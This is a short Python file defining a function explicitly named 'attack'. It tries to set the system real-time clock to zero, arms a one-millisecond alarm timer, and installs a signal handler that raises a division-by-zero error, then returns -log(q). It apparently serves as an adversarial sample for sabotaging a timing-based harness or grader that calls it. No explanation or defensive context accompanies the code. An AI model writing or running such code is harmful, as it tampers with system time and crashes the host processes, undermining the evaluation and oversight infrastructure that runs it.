# Sets clocks and timers.
import numpy as np
import time, signal
def attack(p, q):
    for attempt in (lambda: time.clock_settime(time.CLOCK_REALTIME, 0), lambda: signal.setitimer(signal.ITIMER_REAL, 0.001)):
        try:
            attempt()
        except OSError:
            pass
    signal.signal(signal.SIGALRM, lambda *rest: 1 / 0)
    g = -np.log(q)
    time.sleep(0.01)
    return g
